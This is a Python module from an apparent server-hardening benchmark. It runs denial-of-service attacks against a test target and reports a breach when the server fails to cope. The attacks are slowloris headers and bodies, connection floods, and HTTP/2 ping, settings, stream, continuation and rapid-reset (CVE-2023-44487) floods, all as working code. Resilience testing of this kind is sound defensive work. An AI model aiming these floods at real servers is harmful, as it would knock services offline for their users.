"""Attacks by connections: many of them, slow ones, and frames of HTTP/2 that cost the server more than the sender."""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections.abc import AsyncIterator, Callable

from benchmarks.attack import http2_frames as h2
from benchmarks.attack.attacks.messages import GENERATE
from benchmarks.attack.sockets import ATTACKER, Http2, connect, connection, is_closed, post, read_answer
from benchmarks.attack.target import BODY_TIMEOUT_S, MAX_CONNECTIONS, AttackTarget, call_code, channel
from benchmarks.attack.verdict import Breach

_NUM_SLOW = 200
_SLOW_WITHIN_S = 15.0  # a slow sender is cut off by then
_NUM_FLOOD = 3000
_FLOOD_S = 4.0


async def _drip(target: AttackTarget, head: bytes, byte: bytes, within_s: float, what: str) -> None:
    """Opens connections that send one more byte a second; the server must close every one of them in time."""

    async def one() -> bool:
        async with connection(target.http) as (reader, writer):
            writer.write(head)
            closing = asyncio.create_task(is_closed(reader, within_s))
            while not closing.done():
                await asyncio.wait([closing], timeout=1.0)
                with contextlib.suppress(OSError):
                    writer.write(byte)
            return closing.result()

    ends = await asyncio.gather(*(one() for _ in range(_NUM_SLOW)), return_exceptions=True)
    num_open = sum(each is False for each in ends)
    if num_open:
        raise Breach(f"{num_open} of {_NUM_SLOW} connections with unfinished {what} were open after {within_s:g} s")


async def slowloris_headers(target: AttackTarget) -> None:
    """Sends headers a byte a second over 200 connections."""
    await _drip(target, b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nX-A: ", b"a", _SLOW_WITHIN_S, "headers")


async def slowloris_bodies(target: AttackTarget) -> None:
    """Announces a body of 100 kB and sends a byte a second of it over 200 connections."""
    head = post("/v1/completions", target.key) + b"Content-Length: 100000\r\n\r\n"
    await _drip(target, head, b" ", BODY_TIMEOUT_S + 6.0, "bodies")


async def silent_connections(target: AttackTarget) -> None:
    """Opens 200 connections to each port and sends nothing, not even a preface."""

    async def one(address: str) -> bool:
        async with connection(address) as (reader, _):
            return await is_closed(reader, _SLOW_WITHIN_S)

    for port, address in (("HTTP", target.http), ("gRPC", target.grpc)):
        ends = await asyncio.gather(*(one(address) for _ in range(_NUM_SLOW)), return_exceptions=True)
        num_open = sum(each is False for each in ends)
        if num_open:
            raise Breach(f"{num_open} of {_NUM_SLOW} silent {port} connections were open after {_SLOW_WITHIN_S:g} s")


async def connection_flood(target: AttackTarget) -> None:
    """Opens 3000 connections from one peer to each port and keeps them open; another peer must still get in.

    gRPC's library does not distinguish peers, so only the number of all connections together is limited.
    """
    for port, address in (("HTTP", target.http), ("gRPC", target.grpc)):
        opened: list[asyncio.StreamWriter] = []
        try:

            async def hold(address: str = address, opened: list[asyncio.StreamWriter] = opened) -> None:
                reader, writer = await connect(address)
                opened.append(writer)
                await is_closed(reader, 0.5)

            held = 0  # most connections at a time; silent ones are closed after a while, which makes room for others
            for _ in range(_NUM_FLOOD // 250):
                await asyncio.gather(*(hold() for _ in range(250)), return_exceptions=True)
                held = max(held, await target.num_connections(ATTACKER))
            async with channel(target.grpc) as made:
                began_s = time.monotonic()
                code, details = await call_code(made, "/grpc.health.v1.Health/Check", b"", timeout_s=5.0, streams=False)
                if code.name != "OK":
                    raise Breach(f"with {held} {port} connections open, another peer got {code.name}: {details}")
                if time.monotonic() - began_s > 2.0:
                    raise Breach(f"with {held} {port} connections open, another peer waited for more than 2 s")
            if port == "HTTP" and held > MAX_CONNECTIONS:
                raise Breach(f"one peer holds {held} {port} connections, more than its limit")
        finally:
            for writer in opened:
                writer.transport.abort()


@contextlib.asynccontextmanager
async def _attacking(target: AttackTarget) -> AsyncIterator[Http2]:
    made = await Http2.open(target.grpc)
    try:
        yield made
    finally:
        await made.close()


async def _flood(target: AttackTarget, frames: Callable[[int], bytes], what: str, *, must_end: bool) -> None:
    """Sends frames as fast as the server takes them. With `must_end`, the server must close the connection."""
    num_connections, end_s = 0, time.monotonic() + _FLOOD_S
    while time.monotonic() < end_s:
        async with _attacking(target) as made:
            num_connections += 1
            rank = 0
            while time.monotonic() < end_s and await made.send(frames(rank)):
                rank += 1
                await asyncio.sleep(0)
    if must_end and num_connections == 1:
        raise Breach(f"one connection sent {what} for {_FLOOD_S:g} s and was not closed")


async def http2_ping_flood(target: AttackTarget) -> None:
    """Sends pings without end."""
    pings = h2.frame(h2.PING, 0, 0, b"penstock") * 500
    await _flood(target, lambda _: pings, "pings", must_end=True)


async def http2_settings_flood(target: AttackTarget) -> None:
    """Sends settings without end, each of which must be acknowledged."""
    many = h2.settings([(h2.INITIAL_WINDOW_SIZE, 65535)]) * 500
    await _flood(target, lambda _: many, "settings", must_end=False)


async def http2_stream_flood(target: AttackTarget) -> None:
    """Opens streams that never send their message, thousands over each connection."""
    block = h2.header_block(h2.grpc_headers(GENERATE, target.grpc, target.key))

    def frames(rank: int) -> bytes:
        first = 1 + 2 * 100 * rank
        return b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, first + 2 * each, block) for each in range(100))

    await _flood(target, frames, "streams", must_end=False)


async def http2_rapid_reset(target: AttackTarget) -> None:
    """Opens calls with a message and resets each at once (CVE-2023-44487)."""
    headers = h2.grpc_headers(GENERATE, target.grpc, target.key)
    reset = h2.CANCEL.to_bytes(4, "big")

    def frames(rank: int) -> bytes:
        first = 1 + 2 * 50 * rank
        parts = []
        for stream in range(first, first + 100, 2):
            parts.append(h2.open_call(stream, headers, b"\x12\x04Once"))
            parts.append(h2.frame(h2.RST_STREAM, 0, stream, reset))
        return b"".join(parts)

    await _flood(target, frames, "resets", must_end=False)


async def http2_continuation_flood(target: AttackTarget) -> None:
    """Sends one header block in pieces that never end."""
    piece = h2.frame(h2.CONTINUATION, 0, 1, b"\0\x03x-a\x01b" * 1000)

    def frames(rank: int) -> bytes:
        return piece * 8 if rank else h2.frame(h2.HEADERS, 0, 1, b"\0\x03x-a\x01b") + piece

    await _flood(target, frames, "pieces of a header block", must_end=True)


async def garbage_bytes(target: AttackTarget) -> None:
    """Sends noise, TLS greetings and requests of the other protocol to both ports."""
    greeting = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256)) * 2
    noise = [bytes((7 * rank * rank + rank) % 256 for rank in range(20_000)), greeting, h2.PREFACE, b"\r\n" * 5000,
             b"GET / HTTP/0.9\r\n\r\n", b"\0" * 100_000]  # fmt: skip
    for address in (target.http, target.grpc):
        for each in noise * 5:
            with contextlib.suppress(OSError):
                async with connection(address) as (reader, writer):
                    writer.write(each)
                    writer.write_eof()
                    status, answer = await read_answer(reader, 1.0)
                    if status >= 500 and status != 505:
                        raise Breach(f"garbage was answered {status}: {answer[-200:]!r}")


ATTACKS = (
    slowloris_headers,
    slowloris_bodies,
    silent_connections,
    connection_flood,
    http2_ping_flood,
    http2_settings_flood,
    http2_stream_flood,
    http2_rapid_reset,
    http2_continuation_flood,
    garbage_bytes,
)
